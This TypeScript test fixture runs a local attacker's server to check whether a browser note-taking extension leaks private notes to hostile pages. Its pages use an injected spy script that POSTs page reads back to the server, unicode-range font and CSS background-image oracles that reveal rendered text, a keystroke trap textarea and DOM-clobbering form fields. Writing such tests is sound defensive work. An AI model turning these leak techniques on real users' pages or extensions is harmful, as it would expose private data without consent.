/**
 * The attacker's server: stories with real names on pages that spy, a wiki that must not be asked, and a record of
 * every request. `/NAME` is a page of `PAGES`, `/wiki/api.php` the wiki, everything else is only recorded.
 */
import { existsSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { STORY } from '../extension/story-pages';
import { readEverything } from './page-reads';
import { spy } from './page-spy';

export interface AttackSite {
  readonly origin: string;
  readonly wiki: string;
  /** Paths with their queries, the wiki's too, each with the body that was sent. */
  readonly asked: readonly string[];
  close(): void;
}

interface AttackPage {
  readonly head?: string;
  readonly body?: string;
  readonly headers?: Readonly<Record<string, string>>;
}

/** On which the reader has a note before any attack begins. */
export const NOTED = { words: 'Gen. [Qasem Soleimani]', name: 'Qasem Soleimani', key: 'qasem-soleimani' } as const;
export const NOTE = 'zebraword7, and my source is Omar';
/** Noted too, and named on the page `/elsewhere` alone. */
export const ELSEWHERE = { words: 'day [Vladimir Putin] said', name: 'Vladimir Putin', key: 'vladimir-putin' } as const;
export const NOTE_ELSEWHERE = 'quaggaword8, said in the sauna';

const SECOND =
  'The Associated Press reported from Iraq that the streets were quiet in the morning, while in Washington the advisers of President Trump spoke of a warning to Iran that nobody could overhear, and in Europe the talk was of the nuclear deal.';
/** Tells the server what it reads when the reader has gone on and come back. In the page. */
function tellOnReturn(): void {
  addEventListener('pageshow', async ({ persisted }) => {
    const [navigation] = performance.getEntriesByType('navigation') as PerformanceNavigationTiming[];
    if (!persisted && navigation?.type !== 'back_forward') return;
    await new Promise((next) => setTimeout(next, 500));
    const { readEverything } = window as unknown as { readEverything(needles: readonly string[]): Promise<object> };
    const reads = await readEverything(['zebraword7', 'Quds']);
    const left = document.querySelectorAll('[popover]').length;
    await fetch('/came-back', { method: 'POST', body: JSON.stringify({ reads, left }) });
  });
}

const paragraphs = `<p id="first">${STORY}</p><p id="second">${SECOND}</p>`;
const story = `<article><h1>A strike in Baghdad</h1>${paragraphs}</article>`;
// Tall, so that whatever scrolls to a find betrays it; a field that waits for keys; no letter of it is in a card.
const bait = '<textarea id="trap" style="position:fixed;left:0;bottom:0;width:90px;height:20px"></textarea>';
const tall = '<div style="height:3000px"></div>';

/** By address: what stands in the page is the page's own text, and words of ours in a script would be found there. */
const SPY = '<script src="/spy.js"></script>';
const spyScript = () =>
  `globalThis.__name ??= (given) => given; (${spy})(); globalThis.readEverything = ${readEverything}; (${tellOnReturn})();`;

/** Families that a card might ask for, each with letters of its own address: which is fetched tells what is written. */
const FAMILIES = ['system-ui', '-apple-system', 'Segoe UI', 'Roboto', 'Noto Sans', 'Georgia', 'Iowan Old Style'];
const MORE_FAMILIES = ['Noto Serif', 'Times New Roman', 'BlinkMacSystemFont', 'ui-sans-serif', 'sans-serif', 'serif'];
const LETTERS: Readonly<Record<string, string>> = { z: 'U+7A', Q: 'U+51', seven: 'U+37', o: 'U+6F' };
const faces = [...FAMILIES, ...MORE_FAMILIES]
  .flatMap((family) => [family, `"${family}"`])
  .flatMap((family, at) =>
    Object.entries(LETTERS).map(
      ([letter, range]) => `@font-face{font-family:${family};src:url(/font/${at}-${letter});unicode-range:${range}}`,
    ),
  )
  .join('');

/** What a page's own sheet would do to the card: hide it, and ask the server about its parts. */
const oracles = `
  [popover], [popover]::part(note), div::part(card), iframe { opacity: 0 !important; background-image: url(/style/part) !important }
  ::part(button) { background-image: url(/style/button) !important }
  :host { background-image: url(/style/host) }
  textarea:focus { background-image: url(/style/typing) !important }
  html { container-type: inline-size; container-name: page }
  @container page (min-width: 1px) { article button { background-image: url(/style/container) !important } }
  @media (min-width: 1px) { [popover] button, [popover] textarea { background-image: url(/style/media) !important } }`;

/** Reports of everything that it forbids. */
const STRICT = {
  'content-security-policy':
    "default-src 'none'; script-src 'self'; connect-src 'self'; frame-src 'none'; style-src 'none' 'report-sample'; report-uri /report",
  'content-security-policy-report-only': "default-src 'none'; report-uri /report-only",
};

const PAGES: Readonly<Record<string, AttackPage>> = {
  // Where the reader writes notes in peace.
  plain: {},
  spying: { head: SPY, body: `${story}${bait}${tall}` },
  strict: { head: SPY, body: `${story}${bait}`, headers: STRICT },
  fonts: { head: `<style>${faces}</style>${SPY}`, body: `${story}${bait}` },
  styled: { head: `<style>${oracles}</style>${SPY}`, body: `${story}${bait}` },
  elsewhere: {
    head: SPY,
    body: `<article><h1>Talks</h1><p>On that day Vladimir Putin said in a long statement to the press that the talks would go on for as long as it took, and that nobody should expect an answer before the end of the week.</p><p>${SECOND}</p></article>`,
  },
  ...clobbered(),
};

/** Forms whose fields take the names of what a script asks of an element, around the story and within it. */
function clobbered(): Record<string, AttackPage> {
  const names =
    'parentElement,children,id,name,title,firstChild,localName,closest,matches,contains,querySelector,querySelectorAll,textContent,className,hidden,style,shadowRoot,nodeType,getAttribute,compareDocumentPosition,getBoundingClientRect,ownerDocument,isConnected,assignedSlot,parentNode,append,remove,attachShadow,showPopover,popover';
  const fields = names.split(',').map((name) => `<input name="${name}" id="${name}" type="hidden">`);
  return {
    'clobbered-around': { body: `<form action="/x">${story}${fields.join('')}</form>` },
    'clobbered-within': {
      body: `<article><form action="/x"><h1>A strike in Baghdad</h1>${paragraphs}${fields.join('')}</form></article>`,
    },
  };
}

const html = ({ head = '', body = story }: AttackPage): string =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>A strike in Baghdad</title><meta property="og:type" content="article"><meta property="article:published_time" content="2020-01-04T08:00:00Z"><style>body{font:18px/1.6 serif;max-width:640px;margin:60px auto}</style>${head}</head><body>${body}</body></html>`;

/** A font that may be fetched, so that a browser has no reason to stop asking. */
const font = ['dejavu/DejaVuSans.ttf', 'liberation/LiberationSans-Regular.ttf']
  .map((name) => `/usr/share/fonts/truetype/${name}`)
  .find((path) => existsSync(path));

export async function openAttackSite(): Promise<AttackSite> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    const path = new URL(request.url ?? '/', 'http://x').pathname;
    const page = PAGES[path.slice(1)];
    if (page) {
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...page.headers }).end(html(page));
      return;
    }
    if (path === '/spy.js') {
      response.writeHead(200, { 'content-type': 'text/javascript; charset=utf-8' }).end(spyScript());
      return;
    }
    if (path === '/favicon.ico') return void response.writeHead(204).end();
    const body: Buffer[] = [];
    request.on('data', (piece: Buffer) => body.push(piece));
    request.on('end', () => {
      asked.push(`${request.url} ${Buffer.concat(body)}`.trim());
      if (path.startsWith('/font/') && font) {
        const type = { 'content-type': 'font/ttf', 'access-control-allow-origin': '*' };
        return void response.writeHead(200, type).end(readFileSync(font));
      }
      response.writeHead(404).end('{}');
    });
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    origin,
    wiki: `${origin}/wiki/api.php`,
    asked,
    close() {
      server.closeAllConnections();
      server.close();
    },
  };
}
